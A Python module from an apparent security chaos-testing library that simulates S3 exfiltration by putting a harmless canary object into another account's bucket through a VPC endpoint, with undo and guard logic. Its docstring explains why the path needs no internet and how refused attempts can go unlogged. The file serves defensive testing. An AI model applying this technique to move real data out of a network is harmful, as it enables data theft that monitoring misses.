"""Data is copied to a stranger's bucket through the VPC's own endpoint."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

from chaoskit.aws import Call
from chaoskit.contract import Change, Fault, fault
from chaoskit.faults._canaries import check_undoable, versions

if TYPE_CHECKING:
    from chaoskit.aws import Reader
    from chaoskit.contract import Changes

_KEY: Final = "chaoskit-canary"


@fault(
    "s3.exfiltrate-through-endpoint",
    layer="network",
    attack=("T1537", "T1567.002"),
    atlas=("AML.T0025",),
    owasp_ml=("ML03",),
)
class ExfiltrateThroughEndpoint(Fault):
    """Put a canary object into a bucket of another account, through the VPC endpoint that S3 is reached by.

    No internet is needed for it: the endpoint leads to every bucket unless its policy names those of its own.

    Detected by: CloudTrail PutObject, as a data event of the bucket's owner or a network activity event.

    Undetected: what the endpoint's policy refuses is in network activity events only, which the workload's
    trails don't select: they cost by the event, and a refusal does no harm.

    Attributes:
        endpoint: Id of the S3 endpoint. On AWS the call goes where chaoskit runs: run it inside the VPC.
        bucket: A bucket of an account that is not in the organization, which lets the caller put the canary,
            list and delete its versions, and see what the bucket does with them (versioning, Object Lock,
            replication).
    """

    endpoint: str
    bucket: str = "chaoskit-stranger-drop-zone"

    def changes(self, aws: Reader) -> Changes:
        """Put the canary; undone by deleting each version that is new. A canary that lies there is not ours.

        One whose versions are still there isn't either: in a bucket that has ceased to keep versions, a put
        would replace the version `null`.

        Raises:
            GuardError: The bucket would keep the canary.
        """
        which: dict[str, Any] = {"Bucket": self.bucket, "Key": _KEY}
        there, undo = versions(self.bucket, _KEY)
        if aws.read(there):
            return
        check_undoable(aws, "PutObject", self.bucket, _KEY)
        yield Change(
            do=Call("s3", "PutObject", source_vpce=self.endpoint, **which, Body=b"not real data"),
            undo=(undo,),
            state=there,
        )
